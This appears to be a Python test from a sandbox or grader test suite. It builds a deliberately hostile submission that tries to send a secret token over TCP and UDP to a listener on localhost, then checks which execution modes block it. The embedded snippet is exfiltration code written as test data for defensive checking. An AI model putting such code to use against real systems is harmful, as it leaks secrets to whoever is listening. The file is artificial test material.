"""Send what can be read to somebody who listens on the network."""

from ...expectation import outcome
from ...submission import hostile, write
from ...world import port, token

EXPECTED = outcome(rest="failed", mean_square="passed")
LAST = """
    import socket

    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as line:
            line.sendall(b"TOKEN")
    except OSError as error:
        print(error)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        try:
            line.sendto(b"TOKEN", ("127.0.0.1", PORT))
        except OSError as error:
            print(error)
"""


def submit(release, folder):
    last = LAST.replace("PORT", str(port())).replace("TOKEN", token())
    write(hostile(release, last=last), folder)
